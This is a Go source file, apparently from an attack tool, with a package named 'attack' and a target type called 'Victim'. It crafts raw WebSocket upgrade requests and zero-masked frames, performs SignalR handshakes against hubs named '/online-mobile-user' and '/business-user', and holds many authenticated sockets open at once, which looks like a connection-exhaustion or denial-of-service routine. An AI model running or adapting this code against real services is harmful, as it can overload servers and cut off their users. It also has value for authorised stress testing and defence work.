package attack

import (
	"context"
	"encoding/binary"
	"net/http"
)

// Opcodes of frames, with the final bit.
const (
	finalText   = 0x81
	finalBinary = 0x82
	finalPing   = 0x89
)

// The hubs.
const (
	phoneHub    = "/online-mobile-user"
	businessHub = "/business-user"
)

const (
	handshakeJSON = "{\"protocol\":\"json\",\"version\":1}\x1e"
	handshakePack = "{\"protocol\":\"messagepack\",\"version\":1}\x1e"
)

// upgradeRequest is the request for a WebSocket at a hub.
func (v *Victim) upgradeRequest(hub, token string) string {
	return v.request("GET", hub, "", bearer(token), "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13",
		"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==")
}

// frame is a masked frame; the mask is zeros.
func frame(first byte, payload string) string {
	f := frameHead(first, uint64(len(payload)))
	return string(f) + payload
}

// frameHead is the head of a masked frame that announces size bytes.
func frameHead(first byte, size uint64) []byte {
	f := []byte{first}
	switch {
	case size < 126:
		f = append(f, 0x80|byte(size))
	case size < 1<<16:
		f = binary.BigEndian.AppendUint16(append(f, 0x80|126), uint16(size))
	default:
		f = binary.BigEndian.AppendUint64(append(f, 0x80|127), size)
	}
	return append(f, 0, 0, 0, 0)
}

// upgrade makes c a WebSocket and reports whether the server agreed.
func (c *conn) upgrade(hub, token string) bool {
	c.refused = !c.send(c.v.upgradeRequest(hub, token)) || c.answer() != http.StatusSwitchingProtocols
	return !c.refused
}

// shake makes c a WebSocket with a handshake.
func (c *conn) shake(hub, token, handshake string) bool {
	return c.upgrade(hub, token) && c.send(frame(finalText, handshake))
}

// sockets holds n WebSockets at a hub, past the handshake.
func (v *Victim) sockets(ctx context.Context, n int, hub, token string, act func(ctx context.Context, c *conn)) {
	v.hold(ctx, n, func(ctx context.Context, c *conn) {
		if c.shake(hub, token, handshakeJSON) {
			act(ctx, c)
		}
	})
}
